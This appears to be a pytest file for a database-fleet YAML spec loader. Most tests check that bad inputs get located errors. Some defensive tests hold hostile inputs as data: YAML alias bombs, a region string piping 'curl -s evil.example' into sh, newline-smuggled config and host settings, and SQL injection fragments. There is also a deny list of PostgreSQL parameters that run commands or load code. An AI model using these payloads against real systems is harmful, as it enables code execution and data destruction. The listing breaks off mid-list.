"""The fleet spec loader: the example is valid, and each kind of bad input gets a located error."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from pydantic import ValidationError

from dbfleet.spec import PostgresCluster, RedisCluster, SpecError, load_fleet, parse_fleet

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = (REPO / "fleet.example.yaml").read_text()
HA_LINE = next(line + "\n" for line in EXAMPLE.splitlines() if line.startswith("    ha: "))


def as_manual(text: str) -> str:
    """The example with pg-main on ha: manual: no patroni or endpoints section, and no standby site (a Patroni
    standby cluster)."""
    lines = text.replace(HA_LINE, "    ha: manual\n").splitlines(keepends=True)
    out, skipping = [], False
    for line in lines:
        if line.startswith("      standby:"):
            continue
        if line.startswith("    patroni:"):
            skipping = True
            continue
        if skipping and line.startswith("      "):
            continue
        skipping = False
        if not line.startswith("    endpoints:"):
            out.append(line)
    return "".join(out)


MANUAL = as_manual(EXAMPLE)


def test_example_is_the_lab_topology() -> None:
    fleet = load_fleet(REPO / "fleet.example.yaml")
    pg = fleet.cluster("pg-main")
    assert isinstance(pg, PostgresCluster)
    assert pg.primary == "pg-1" and pg.replicas == 2 and pg.host_names() == ["pg-1", "pg-2", "pg-3"]
    mongo = fleet.cluster("mongo-main")
    assert len(mongo.config_servers.members) >= 1 and len(mongo.shards) == 2 and len(mongo.mongos) == 1
    redis = fleet.cluster("cache")
    assert isinstance(redis, RedisCluster)
    assert redis.replicas == 2 and len(redis.sentinels) == 3 and redis.effective_quorum == 2


def _error(text: str) -> SpecError:
    with pytest.raises(SpecError) as info:
        parse_fleet(text, "fleet.yaml")
    return info.value


# (name, edit of the example, key path in the error, words the message must contain)
BAD_INPUTS = [
    ("unknown key", (HA_LINE, HA_LINE + "    colour: blue\n"), "clusters.0.colour", "unknown key"),
    ("wrong type", ("replicas: 2\n    databases", "replicas: two\n    databases"), "clusters.0.replicas",
     "expected a whole number"),
    ("negative count", ("replicas: 2\n    databases", "replicas: -1\n    databases"), "clusters.0.replicas", ">= 0"),
    ("duplicate host", ("[redis-1, redis-2, redis-3]", "[redis-1, pg-2, redis-3]"), "clusters.2",
     "already used by cluster 'pg-main'"),
    ("unknown engine version", ('version: "15"', 'version: "9.6"'), "clusters.0.version", "not supported"),
    ("replicas above hosts", ("replicas: 2\n    databases", "replicas: 5\n    databases"), "clusters.0.replicas",
     "need 6 hosts"),
    ("bad cron", ('"0 2 * * 0"', '"0 25 * * 0"'), "clusters.0.backup.schedule.full", "outside 0-23"),
    ("unknown engine", ("engine: redis", "engine: memcached"), "clusters.2.engine", "got 'memcached'"),
    ("missing key", ("    config_servers: {name: cfg, members: [mongo-cfg-1]}\n", ""),
     "clusters.1.config_servers", "required"),
    ("unknown backup target", ("{kind: local, path: /var/lib/dbfleet/backups}", "{kind: ftp, path: x}"),
     "clusters.0.backup.target.kind", "got 'ftp'"),
    ("quorum above sentinels", ("quorum: 2", "quorum: 5"), "clusters.2.quorum", "more than the 3 sentinels"),
    ("index on undeclared database", ("{database: app, table: users", "{database: nope, table: users"),
     "clusters.0.indexes.declared.0.database", "not one of databases"),
    ("bad host name", ("[pg-1, pg-2, pg-3]", "[pg-1, PG_2, pg-3]"), "clusters.0.hosts.1", "does not match"),
    ("open to the world", ("    databases: [app]\n", "    databases: [app]\n    allowed_clients: [0.0.0.0/0]\n"),
     "clusters.0.allowed_clients", "every address"),
    ("managed parameter", ("      max_connections: 100\n", "      max_connections: 100\n      port: 6000\n"),
     "clusters.0.parameters.port", "managed by dbfleet"),
    ("min replicas to write above replicas", ("min_replicas_to_write: 1", "min_replicas_to_write: 3"),
     "clusters.2.min_replicas_to_write", "never accept a write"),
    ("canary not a table", ("canary: public.canary}", "canary: 'public.canary; drop table x'}"),
     "clusters.0.backup.drill.canary", "'schema.table'"),
    ("canary in an undeclared database", ("canary: public.canary}", "canary: other.public.canary}"),
     "clusters.0.backup.drill.canary", "not one of databases"),
    ("mongo canary without a database", ("canary: app.events}", "canary: events}"),
     "clusters.1.backup.drill.canary", "'database.collection'"),
    ("ttl below the loop and retries", ("      retry_timeout: 2\n", "      retry_timeout: 3\n"),
     "clusters.0.patroni.ttl", "less than loop_wait + 2 * retry_timeout"),
    ("etcd with an even number of members", ("      # etcd: {hosts: [pg-1, pg-2, pg-3]}",
                                             "      etcd: {hosts: [pg-1, pg-2]}"),
     "clusters.0.patroni.etcd.hosts", "odd number of members"),
    ("etcd on a host of another cluster", ("      # etcd: {hosts: [pg-1, pg-2, pg-3]}",
                                           "      etcd: {hosts: [pg-1, pg-2, redis-1]}"),
     "clusters.2", "already used by cluster 'pg-main'"),
    ("strict without synchronous", ("{enabled: true, num_sync: 1}", "{enabled: false, num_sync: 1, strict: true}"),
     "clusters.0.synchronous.strict", "needs synchronous.enabled"),
    ("endpoint port clash", ("{rw_port: 5000, ro_port: 5001}", "{rw_port: 5000, ro_port: 5000}"),
     "clusters.0.endpoints.ro_port", "already endpoints.rw_port"),
    ("unknown patroni key", ("      loop_wait: 1\n", "      loop_wait: 1\n      loop_wiat: 2\n"),
     "clusters.0.patroni.loop_wiat", "unknown key"),
    ("wrong api version", ("apiVersion: dbfleet/v1", "apiVersion: dbfleet/v9"), "apiVersion", "dbfleet/v1"),
    ("metrics password over plain http", ("    tls: true            #", "    tls: false           #"),
     "monitoring.operator_metrics.basic_auth", "needs tls: true"),
    ("metrics user with a colon", ("    basic_auth: true     #", "    basic_auth: true\n    username: 'prom:x'  #"),
     "monitoring.operator_metrics.username", "does not match"),
    ("metrics tls not a boolean", ("    tls: true            #", "    tls: 'yes'           #"),
     "monitoring.operator_metrics.tls", "expected true or false"),
    ("not a pgaudit class", ("audit: {log: [ddl, role]}", "audit: {log: [ddl, roles]}"), "clusters.0.audit.log.1",
     "'roles' is not a pgaudit class"),
    ("pgaudit class as config-file text", ("audit: {log: [ddl, role]}", "audit: {log: [\"ddl'\\nssl = off\"]}"),
     "clusters.0.audit.log.0", "not a pgaudit class"),
    ("pgaudit class twice", ("audit: {log: [ddl, role]}", "audit: {log: [ddl, role, ddl]}"), "clusters.0.audit.log",
     "ddl listed more than once"),
    ("pgaudit subtracting only", ("audit: {log: [ddl, role]}", "audit: {log: [-misc]}"), "clusters.0.audit.log",
     "only subtracted classes"),
    ("pgaudit without classes", ("audit: {log: [ddl, role]}", "audit: {log: []}"), "clusters.0.audit.log",
     "at least 1"),
    ("pgaudit unknown setting", ("audit: {log: [ddl, role]}", "audit: {log: [ddl], log_level: debug5}"),
     "clusters.0.audit.log_level", "unknown key"),
    ("pgaudit setting in parameters", ("      max_connections: 100\n", "      max_connections: 100\n"
                                       "      pgaudit.log: none\n"),
     "clusters.0.parameters.pgaudit.log", "audit section"),
    ("an unknown leader lock", ("monitoring:\n  operator_metrics:", "operator: {leader: zookeeper}\nmonitoring:\n"
                                "  operator_metrics:"), "operator.leader", "expected 'etcd', 'postgres' or 'file'"),
    ("a lease far too short", ("monitoring:\n  operator_metrics:", "operator: {lease_ttl: 1}\nmonitoring:\n"
                               "  operator_metrics:"), "operator.lease_ttl", ">= 5"),
    ("no backup may run at all", ("monitoring:\n  operator_metrics:", "operator: {jobs: {backups: 0}}\nmonitoring:\n"
                                  "  operator_metrics:"), "operator.jobs.backups", ">= 1"),
    ("no rewrite may run at all", ("monitoring:\n  operator_metrics:", "operator: {jobs: {rewrites: 0}}\n"
                                   "monitoring:\n  operator_metrics:"), "operator.jobs.rewrites", ">= 1"),
    ("a job alert bound in no unit", ("monitoring:\n  operator_metrics:", "operator: {jobs: {running_alert_after: 12}}"
                                      "\nmonitoring:\n  operator_metrics:"), "operator.jobs.running_alert_after",
     "string"),
    ("a job alert bound as text", ("monitoring:\n  operator_metrics:", "operator: {jobs: {waiting_alert_after: "
                                   "'2h; rm'}}\nmonitoring:\n  operator_metrics:"), "operator.jobs.waiting_alert_after",
     "pattern"),
    ("preload libraries in parameters", ("      max_connections: 100\n", "      max_connections: 100\n"
                                         "      shared_preload_libraries: auto_explain\n"),
     "clusters.0.parameters.shared_preload_libraries", "loads code into the server"),
]


@pytest.mark.parametrize("name,edit,path,words", BAD_INPUTS, ids=[b[0] for b in BAD_INPUTS])
def test_bad_input_gets_a_located_error(name: str, edit: tuple[str, str], path: str, words: str) -> None:
    old, new = edit
    assert old in EXAMPLE, f"test edit for {name} no longer applies to the example"
    err = _error(EXAMPLE.replace(old, new, 1))
    rendered = str(err)
    assert any(p.path == path for p in err.problems), rendered
    assert words in rendered
    # Every problem names the file and a line.
    assert all(line.startswith("fleet.yaml:") for line in rendered.splitlines()), rendered
    assert all(p.line is not None for p in err.problems)


def test_the_lab_audits_ddl_and_role_changes_with_pgaudit() -> None:
    pg = load_fleet(REPO / "fleet.example.yaml").cluster("pg-main")
    assert isinstance(pg, PostgresCluster) and pg.audit is not None
    assert pg.audit.log == ["ddl", "role"] and not pg.audit.log_parameter


def test_pgaudit_takes_its_classes_and_subtractions() -> None:
    fleet = parse_fleet(EXAMPLE.replace("audit: {log: [ddl, role]}", "audit: {log: [all, -misc, -read]}"))
    pg = fleet.cluster("pg-main")
    assert isinstance(pg, PostgresCluster) and pg.audit is not None and pg.audit.log == ["all", "-misc", "-read"]
    assert isinstance(fleet.cluster("pg-main"), PostgresCluster)
    without = parse_fleet(EXAMPLE.replace("    audit: {log: [ddl, role]}", "    "))
    assert without.clusters[0].audit is None  # type: ignore[union-attr]


def test_line_number_points_at_the_key() -> None:
    text = EXAMPLE.replace(HA_LINE, HA_LINE + "    colour: blue\n")
    line = next(i for i, text_line in enumerate(text.splitlines(), 1) if "colour" in text_line)
    assert _error(text).problems[0].line == line


def test_not_yaml() -> None:
    err = _error("clusters: [\n  - {name: x\n")
    assert "not valid YAML" in str(err) and err.problems[0].line is not None


def test_not_a_mapping() -> None:
    assert "expected a mapping" in str(_error("- a\n- b\n"))


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(SpecError) as info:
        load_fleet(tmp_path / "nope.yaml")
    assert str(info.value).startswith(str(tmp_path / "nope.yaml")) and "no such file" in str(info.value)


def test_spec_models_are_frozen() -> None:
    fleet = parse_fleet(EXAMPLE)
    with pytest.raises(ValidationError):
        fleet.clusters[0].replicas = 7  # type: ignore[misc]


# ha: manual keeps working, and refuses what only Patroni does.
MANUAL_BAD = [
    ("patroni section with ha manual", ("    ha: manual\n", "    ha: manual\n    patroni: {ttl: 30}\n"),
     "clusters.0.patroni", "only used with ha: patroni"),
    ("endpoints with ha manual", ("    ha: manual\n", "    ha: manual\n    endpoints: {rw_port: 6000}\n"),
     "clusters.0.endpoints", "only used with ha: patroni"),
    ("strict with ha manual", ("{enabled: true, num_sync: 1}", "{enabled: true, num_sync: 1, strict: true}"),
     "clusters.0.synchronous.strict", "only with ha: patroni"),
]


@pytest.mark.parametrize("name,edit,path,words", MANUAL_BAD, ids=[b[0] for b in MANUAL_BAD])
def test_manual_refuses_patroni_keys(name: str, edit: tuple[str, str], path: str, words: str) -> None:
    old, new = edit
    assert old in MANUAL, name
    err = _error(MANUAL.replace(old, new, 1))
    assert any(p.path == path for p in err.problems), str(err)
    assert words in str(err)


def test_patroni_defaults_put_etcd_and_haproxy_on_the_postgres_hosts() -> None:
    pg = parse_fleet(EXAMPLE).cluster("pg-main")
    assert isinstance(pg, PostgresCluster) and pg.ha == "patroni"
    names = ["pg-1", "pg-2", "pg-3"]
    assert [h.name for h in pg.etcd_hosts()] == [h.name for h in pg.endpoint_hosts()] == names
    assert [h.name for h in pg.machines()] == names
    manual = parse_fleet(MANUAL).cluster("pg-main")
    assert isinstance(manual, PostgresCluster)
    assert manual.ha == "manual" and manual.etcd_hosts() == [] and manual.endpoint_hosts() == []


# --------------------------------------------------------------------------- the operator's leader lock

OPERATOR_AT = "monitoring:\n  operator_metrics:"


def _with_operator(text: str, settings: str) -> str:
    assert OPERATOR_AT in text
    return text.replace(OPERATOR_AT, f"operator: {settings}\n{OPERATOR_AT}", 1)


def _without_postgres(text: str) -> str:
    """The example without pg-main: its cluster entry runs up to the next `  - name:`."""
    start = text.index("  - name: pg-main")
    return text[:start] + text[text.index("  - name: mongo-main"):]


def test_the_leader_lock_defaults_to_etcd_then_postgres_then_a_file() -> None:
    assert parse_fleet(EXAMPLE).leader_backend() == "etcd"  # pg-main runs Patroni, so etcd
    assert parse_fleet(MANUAL).leader_backend() == "postgres"
    assert parse_fleet(_without_postgres(EXAMPLE)).leader_backend() == "file"
    chosen = parse_fleet(_with_operator(EXAMPLE, "{leader: postgres}"))
    assert chosen.leader_backend() == "postgres" and chosen.operator.lease_ttl == 60
    assert parse_fleet(_with_operator(EXAMPLE, "{leader: etcd, lease_ttl: 20}")).operator.lease_ttl == 20
    assert parse_fleet(_with_operator(MANUAL, "{leader: file}")).leader_backend() == "file"


LEADER_BAD = [
    ("etcd without a Patroni cluster", MANUAL, "{leader: etcd}", "no cluster runs etcd (choose postgres or file)"),
    ("postgres without PostgreSQL", _without_postgres(EXAMPLE), "{leader: postgres}",
     "the spec has none (choose file)"),
    ("a lease for the advisory lock", MANUAL, "{lease_ttl: 30}", "only used with leader: etcd (this fleet's leader "
                                                                 "lock is postgres)"),
    ("a lease for a file lock", EXAMPLE, "{leader: file, lease_ttl: 30}", "only used with leader: etcd"),
]


@pytest.mark.parametrize("name,text,settings,words", LEADER_BAD, ids=[b[0] for b in LEADER_BAD])
def test_a_leader_lock_the_fleet_cannot_hold_is_a_located_error(name: str, text: str, settings: str,
                                                                  words: str) -> None:
    err = _error(_with_operator(text, settings))
    key = "operator.lease_ttl" if "lease_ttl" in settings else "operator.leader"
    problem = next(p for p in err.problems if p.path == key)
    assert words in problem.message and problem.line == text.splitlines().index("monitoring:") + 1, str(err)


def test_etcd_and_haproxy_hosts_of_their_own_are_machines_of_the_cluster() -> None:
    text = EXAMPLE.replace("      # etcd: {hosts: [pg-1, pg-2, pg-3]}", "      etcd: {hosts: [etcd-1, etcd-2, etcd-3]}")
    text = text.replace("{rw_port: 5000, ro_port: 5001}", "{hosts: [proxy-1], rw_port: 5000, ro_port: 5001}")
    pg = parse_fleet(text).cluster("pg-main")
    assert [h.name for h in pg.all_hosts()] == ["pg-1", "pg-2", "pg-3"]
    assert [h.name for h in pg.machines()] == ["pg-1", "pg-2", "pg-3", "etcd-1", "etcd-2", "etcd-3", "proxy-1"]


# --------------------------------------------------------------------------- hostile YAML

PG_UNUSED = "      unused: {report: true, drop: false, min_stats_age_days: 7}\n"
SHARDED = "      - {database: app, collection: events, key: {user_id: hashed}}\n"


def _with_zones(zones: str) -> str:
    """The example with `zones` (YAML flow text) on its sharded collection: typed Any, so the data goes on as is."""
    assert SHARDED in EXAMPLE
    return EXAMPLE.replace(SHARDED, "      - {database: app, collection: events, key: {user_id: hashed}, zones: {"
                           + zones + "}}\n")


def _laughs(levels: int, width: int) -> str:
    """A billion-laughs spec: each level is `width` aliases of the one below."""
    entries = [f"l0: &l0 [{', '.join(['lol'] * width)}]"]
    entries += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * width)}]" for i in range(1, levels)]
    return _with_zones(", ".join(entries))


def test_aliases_that_expand_past_the_bound_are_refused_before_they_reach_the_inventory() -> None:
    text = _laughs(levels=6, width=8)  # under 1 KiB of YAML, 299,593 nodes once expanded
    assert len(text) - len(EXAMPLE) < 1024
    err = _error(text)
    assert "expand" in str(err) and "100000" in str(err), str(err)
    assert all(p.line is not None for p in err.problems)


def test_a_billion_laughs_is_refused_quickly() -> None:
    import time

    started = time.monotonic()
    err = _error(_laughs(levels=9, width=9))
    assert "expand" in str(err) and time.monotonic() - started < 5


def test_many_alias_uses_are_refused() -> None:
    assert "more than 100 aliases" in str(_error(_with_zones("eu: [&x lol, " + ", ".join(["*x"] * 101) + "]")))


def test_a_5000_digit_integer_is_a_located_spec_error_not_a_value_error() -> None:
    text = EXAMPLE.replace("replicas: 2\n    databases", "replicas: " + "9" * 5000 + "\n    databases", 1)
    err = _error(text)
    assert any(p.path == "clusters.0.replicas" and "5000 digits" in p.message for p in err.problems), str(err)


def test_20000_nested_brackets_are_a_located_spec_error_not_a_recursion_error() -> None:
    err = _error("apiVersion: dbfleet/v1\nclusters: " + "[" * 20000 + "\n")
    assert "nested deeper than 64" in str(err) and err.problems[0].line == 2
    assert err.problems[0].path.startswith("clusters")


def test_deep_nesting_through_aliases_is_refused() -> None:
    chain = ["d0: &d0 " + "[" * 60 + "x" + "]" * 60]
    chain += [f"d{i}: &d{i} " + "[" * 60 + f"*d{i - 1}" + "]" * 60 for i in range(1, 30)]
    assert "nested deeper than 64" in str(_error(_with_zones(", ".join(chain))))


def test_an_alias_to_its_own_ancestor_is_refused() -> None:
    assert "refers to itself" in str(_error(_with_zones("eu: &loop [*loop]")))


def test_duplicate_keys_are_refused_naming_both_lines() -> None:
    block = ("      unused:\n        report: true\n        drop: false\n        min_stats_age_days: 7\n"
             "        drop: true\n")
    assert PG_UNUSED in EXAMPLE
    text = EXAMPLE.replace(PG_UNUSED, block, 1)
    lines = text.splitlines()
    first = next(i for i, line in enumerate(lines, 1) if line == "        drop: false")
    err = _error(text)
    (problem,) = err.problems
    assert problem.path == "clusters.0.indexes.unused.drop" and problem.line == first + 2
    assert f"line {first}" in problem.message and f"line {first + 2}" in problem.message


def test_an_infinite_alert_threshold_is_refused() -> None:
    err = _error(EXAMPLE.replace("replica_lag_seconds: 30", "replica_lag_seconds: .inf", 1))
    assert any(p.path == "clusters.0.monitoring.alerts.replica_lag_seconds" and "finite" in p.message
               for p in err.problems), str(err)
    assert "finite" in str(_error(EXAMPLE.replace("cache_hit_ratio_min: 0.9", "cache_hit_ratio_min: .nan", 1)))
    assert "finite" in str(_error(EXAMPLE.replace("replica_lag_seconds: 30", "replica_lag_seconds: 1.0e+999", 1)))


def test_a_spec_over_one_mib_is_refused(tmp_path: Path) -> None:
    big = EXAMPLE + "# " + "x" * (1 << 20) + "\n"
    assert "at most 1048576 bytes" in str(_error(big))
    path = tmp_path / "fleet.yaml"
    path.write_text(big)
    with pytest.raises(SpecError, match="at most 1048576 bytes"):
        load_fleet(path)


def test_a_cron_schedule_that_can_never_fire_is_refused() -> None:
    err = _error(EXAMPLE.replace('full: "0 2 * * 0"', 'full: "0 0 31 2 *"', 1))
    assert any(p.path == "clusters.0.backup.schedule.full" and "never" in p.message for p in err.problems), str(err)
    err = _error(EXAMPLE.replace('drill: {schedule: "30 4 * * *"', 'drill: {schedule: "0 0 30 2 *"', 1))
    assert any(p.path == "clusters.0.backup.drill.schedule" and "never" in p.message for p in err.problems), str(err)


# --------------------------------------------------------------------------- PostgreSQL parameters

PARAMS = "      max_connections: 100\n"


def _with_parameter(line: str) -> str:
    assert PARAMS in EXAMPLE
    return EXAMPLE.replace(PARAMS, PARAMS + f"      {line}\n", 1)


@pytest.mark.parametrize("value", ['"x\\\\\'\\nssl = off #"', '"a\\rb"', '"a\\tb"', '"a\\u0000b"', '"a\\u2028b"'])
def test_a_control_character_in_a_parameter_value_is_refused(value: str) -> None:
    err = _error(_with_parameter(f"work_mem: {value}"))
    (problem,) = err.problems
    assert problem.path == "clusters.0.parameters.work_mem" and "control character" in problem.message, str(err)
    assert problem.line is not None


@pytest.mark.parametrize(("name", "why"), [
    ("archive_command", "managed by dbfleet"),
    ("restore_command", "runs a shell command"),
    ("archive_cleanup_command", "runs a shell command"),
    ("recovery_end_command", "runs a shell command"),
    ("ssl_passphrase_command", "runs a shell command"),
    ("archive_library", "loads code"),
    ("shared_preload_libraries", "loads code"),
    ("local_preload_libraries", "loads code"),
    ("session_preload_libraries", "loads code"),
    ("dynamic_library_path", "loads code"),
    ("jit_provider", "loads code"),
    ("data_directory", "moves a file dbfleet manages"),
    ("config_file", "moves a file dbfleet manages"),
    ("hba_file", "moves a file dbfleet manages"),
    ("ident_file", "moves a file dbfleet manages"),
    ("external_pid_file", "writes a file"),
    ("log_directory", "writes a file"),
    ("log_filename", "writes a file"),
    ("unix_socket_directories", "moves a file dbfleet manages"),
    ("ssl_cert_file", "moves a file dbfleet manages"),
    ("ssl_ciphers", "TLS"),
    ("ssl_min_protocol_version", "TLS"),
    ("include", "reads another configuration file"),
    ("include_dir", "reads another configuration file"),
    ("include_if_exists", "reads another configuration file"),
    ("password_encryption", "managed by dbfleet"),
    ("synchronous_standby_names", "managed by dbfleet"),
    ("primary_slot_name", "managed by dbfleet"),
])
def test_parameters_that_run_commands_load_code_or_move_files_are_refused(name: str, why: str) -> None:
    err = _error(_with_parameter(f"{name}: x"))
    (problem,) = err.problems
    assert problem.path == f"clusters.0.parameters.{name}" and why in problem.message, str(err)
    lines = _with_parameter(f"{name}: x").splitlines()
    line = next(i for i, text in enumerate(lines, 1) if text.strip() == f"{name}: x")
    assert problem.line == line


def test_tunable_parameters_are_still_accepted() -> None:
    fleet = parse_fleet(_with_parameter("work_mem: \"it's 4MB\"\n      pg_stat_statements.max: 10000\n"
                                        "      log_min_duration_statement: 250\n      jit: false"))
    assert fleet.cluster("pg-main").parameters["work_mem"] == "it's 4MB"


# --------------------------------------------------------------------------- backup targets and paths

PG_TARGET = "{kind: local, path: /var/lib/dbfleet/backups}"


def _with_target(target: str) -> str:
    assert PG_TARGET in EXAMPLE
    return EXAMPLE.replace(PG_TARGET, target, 1)


def _target_problem(target: str, key: str) -> str:
    err = _error(_with_target(target))
    problems = [p for p in err.problems if p.path == f"clusters.0.backup.target.{key}"]
    assert problems and all(p.line is not None for p in problems), str(err)
    return " ".join(p.message for p in problems)


@pytest.mark.parametrize("region", ['"us-east-1\\nrepo1-s3-verify-tls=n"', "moon-base-1", "us-east", "US-EAST-1",
                                    '"us-east-1 "'])
def test_a_backup_region_that_is_not_an_aws_region_is_refused(region: str) -> None:
    assert "AWS region" in _target_problem(f"{{kind: s3, bucket: acme-bk, region: {region}}}", "region")


@pytest.mark.parametrize("region", ["us-east-1", "eu-central-1", "ap-southeast-2", "us-gov-west-1"])
def test_aws_regions_are_accepted(region: str) -> None:
    fleet = parse_fleet(_with_target(f"{{kind: s3, bucket: acme-bk, region: {region}}}").replace(
        "region: us-east-1", f"region: {region}", 1))
    assert fleet.cluster("pg-main").backup.target.region == region and fleet.fleet.region == region


@pytest.mark.parametrize("path", ['"/backups\\nrepo1-host=evil.example"', "/var/lib/../../etc", "/var//backups",
                                  "backups", "/", "/var/./backups", '"/var/back\\tups"'])
def test_a_local_backup_path_must_be_a_normalised_absolute_path(path: str) -> None:
    assert "path" in _target_problem(f"{{kind: local, path: {path}}}", "path")


@pytest.mark.parametrize("bucket", ["a..b", "192.168.1.1", "xn--bucket", "ab", "a-.b", "bk-s3alias", "UPPER-case",
                                    "-dash", "b" * 64, '"bk\\nrepo1-host=x"'])
def test_s3_bucket_names_follow_s3s_rules(bucket: str) -> None:
    assert "bucket" in _target_problem(f"{{kind: s3, bucket: {bucket}}}", "bucket")


@pytest.mark.parametrize("prefix", ["a/../b", "a//b", "./a", "..", '"a\\nb"'])
def test_an_s3_prefix_is_a_normalised_relative_key_prefix(prefix: str) -> None:
    assert "prefix" in _target_problem(f"{{kind: s3, bucket: acme-bk, prefix: {prefix}}}", "prefix")


def test_an_s3_prefix_is_kept_relative() -> None:
    fleet = parse_fleet(_with_target("{kind: s3, bucket: acme-bk, prefix: /pg/main/}"))
    assert fleet.cluster("pg-main").backup.target.prefix == "pg/main"


@pytest.mark.parametrize("endpoint", ["http://minio:9000", "ftp://minio", "https://user:secret@minio:9000",
                                      "https://minio:9000/bucket?x=1", '"https://minio\\nrepo1-host=x"', "https://",
                                      "https://minio:99999", "minio:9000"])
def test_an_s3_endpoint_must_be_https(endpoint: str) -> None:
    assert "https" in _target_problem(f"{{kind: s3, bucket: acme-bk, endpoint: {endpoint!r}}}", "endpoint")


@pytest.mark.parametrize("endpoint", ["https://127.0.0.1:9443", "https://s3.example.internal", "https://[::1]:9000/"])
def test_https_endpoints_are_accepted(endpoint: str) -> None:
    fleet = parse_fleet(_with_target(f"{{kind: s3, bucket: acme-bk, endpoint: {endpoint!r}}}"))
    assert fleet.cluster("pg-main").backup.target.endpoint == endpoint


@pytest.mark.parametrize("path", ["ca.crt", "/etc/../ca.crt", '"/etc/ca.crt\\n"', "/etc//ca.crt"])
def test_tls_ca_paths_are_normalised_absolute_paths(path: str) -> None:
    for key in ("ca_cert", "ca_key"):
        text = EXAMPLE.replace("    databases: [app]\n", f"    databases: [app]\n    tls: {{{key}: {path}}}\n", 1)
        err = _error(text)
        assert any(p.path == f"clusters.0.tls.{key}" and "path" in p.message for p in err.problems), str(err)


@pytest.mark.parametrize("region", ['"us-east-1; curl -s evil.example | sh"', '"us-east-1\\"; touch /tmp/x; \\""',
                                    "mars-1"])
def test_a_fleet_region_that_is_not_an_aws_region_is_refused(region: str) -> None:
    err = _error(EXAMPLE.replace("  region: us-east-1\n", f"  region: {region}\n", 1))
    assert any(p.path == "fleet.region" and "AWS region" in p.message for p in err.problems), str(err)


# --------------------------------------------------------------------------- declared index SQL

EMAIL_INDEX = 'columns: ["lower(email)"]'
OPEN_INDEX = "where: \"status = 'open'\""


@pytest.mark.parametrize("column", ["id) WITH (fillfactor = 10) TABLESPACE pg_default --", "email), (id",
                                    "email) INCLUDE (id", "email); DROP TABLE users; --", "email) WHERE (true",
                                    "email /* x */", "'email", "email, id", ""])
def test_an_index_column_that_is_not_one_sql_element_is_refused(column: str) -> None:
    assert EMAIL_INDEX in EXAMPLE
    err = _error(EXAMPLE.replace(EMAIL_INDEX, f"columns: [{json.dumps(column)}]", 1))
    (problem,) = err.problems
    assert problem.path == "clusters.0.indexes.declared.0.columns.0" and problem.line is not None, str(err)


@pytest.mark.parametrize("where", ["status = 'open'; DROP TABLE orders", "true) TABLESPACE pg_default --",
                                   "status = 'open' -- and more", "status = 'open') WITH (fillfactor = 10"])
def test_an_index_predicate_that_is_not_one_expression_is_refused(where: str) -> None:
    assert OPEN_INDEX in EXAMPLE
    err = _error(EXAMPLE.replace(OPEN_INDEX, f"where: {json.dumps(where)}", 1))
    (problem,) = err.problems
    assert problem.path == "clusters.0.indexes.declared.2.where" and problem.line is not None, str(err)


def test_index_expressions_postgresql_takes_are_accepted() -> None:
    columns = ('["lower(email)", "created_at DESC NULLS LAST", "email text_pattern_ops", "(a + b)", '
               '"name COLLATE \\"C\\""]')
    fleet = parse_fleet(EXAMPLE.replace(EMAIL_INDEX, f"columns: {columns}", 1).replace(
        OPEN_INDEX, "where: \"status IN ('open', 'held') AND deleted_at IS NULL\"", 1))
    declared = fleet.cluster("pg-main").indexes.declared
    assert declared[0].columns[-1] == 'name COLLATE "C"' and declared[2].where.startswith("status IN")


# --------------------------------------------------------------------------- disaster recovery (dr:)

PG_DR = "target: {kind: local, path: /var/lib/dbfleet/dr-backups}\n      rpo_seconds: 60\n"
PG_STANDBY = "      standby: {hosts: [pg-dr-1], region: us-west-2, vpc_cidr: 10.41.0.0/16, old_site: fence}\n"
"""The example's standby site for pg-main."""


def _with_dr(old: str, new: str) -> str:
    assert old in EXAMPLE, f"the example no longer holds {old!r}"
    return EXAMPLE.replace(old, new, 1)


def test_the_example_writes_every_cluster_twice() -> None:
    fleet = load_fleet(REPO / "fleet.example.yaml")
    for cluster in fleet.clusters:
        assert cluster.dr is not None, cluster.name
        assert cluster.dr.target != cluster.backup.target
    pg = fleet.cluster("pg-main")
    assert pg.dr is not None and pg.dr.rpo_seconds == 60 and pg.dr.archive_timeout == 30
    assert pg.dr.drill.schedule == "0 6 * * *" and pg.dr.standby is not None
    assert [h.name for h in pg.standby_hosts()] == ["pg-dr-1"] and pg.dr.standby.region == "us-west-2"


STANDBY = "      standby: {{hosts: [pg-dr-1], region: us-west-2, vpc_cidr: {cidr}}}\n"

DR_BAD = [
    ("same path as backup", (PG_DR, "target: {kind: local, path: /var/lib/dbfleet/backups}\n      rpo_seconds: 60\n"),
     "clusters.0.dr.target.path", "same directory"),
    ("nested in backup", (PG_DR, "target: {kind: local, path: /var/lib/dbfleet/backups/dr}\n      rpo_seconds: 60\n"),
     "clusters.0.dr.target.path", "one inside the other"),
    ("unknown target kind", (PG_DR, "target: {kind: ftp, path: /x}\n      rpo_seconds: 60\n"),
     "clusters.0.dr.target.kind", "got 'ftp'"),
    ("missing target", (PG_DR, "rpo_seconds: 60\n"), "clusters.0.dr.target", "required key is missing"),
    ("rpo too small", (PG_DR, PG_DR.replace("60", "10")), "clusters.0.dr.rpo_seconds", ">= 30"),
    ("rpo not a number", (PG_DR, PG_DR.replace("60", "soon")), "clusters.0.dr.rpo_seconds", "whole number"),
    ("bad drill cron", ('drill: {schedule: "0 6 * * *"}', 'drill: {schedule: "0 26 * * *"}'),
     "clusters.0.dr.drill.schedule", "outside 0-23"),
    ("unknown dr key", (PG_DR, PG_DR + "      colour: blue\n"), "clusters.0.dr.colour", "unknown key"),
    ("archive_timeout by hand", ("      max_connections: 100\n", "      max_connections: 100\n"
                                 "      archive_timeout: 600\n"),
     "clusters.0.parameters.archive_timeout", "set by dr.rpo_seconds"),
    ("s3 in the fleet's region", (PG_DR, "target: {kind: s3, bucket: acme-dr, region: us-east-1}\n"),
     "clusters.0.dr.target.region", "fleet's own region"),
    ("standby on redis", ("      rpo_seconds: 4500", "      rpo_seconds: 4500\n"
                          "      standby: {hosts: [redis-dr-1], region: us-west-2}"),
     "clusters.2.dr.standby", "PostgreSQL's"),
    ("standby in the fleet's region", (PG_STANDBY, PG_STANDBY.replace("us-west-2", "us-east-1")),
     "clusters.0.dr.standby.region", "fleet's own region"),
    ("standby host used elsewhere", (PG_STANDBY, PG_STANDBY.replace("pg-dr-1", "pg-2")),
     "clusters.0.dr.standby.hosts.0", "already used"),
    ("standby fenced by the operator with ha manual", (HA_LINE, "    ha: manual\n"), "clusters.0.dr.standby.old_site",
     "fence needs ha: patroni"),
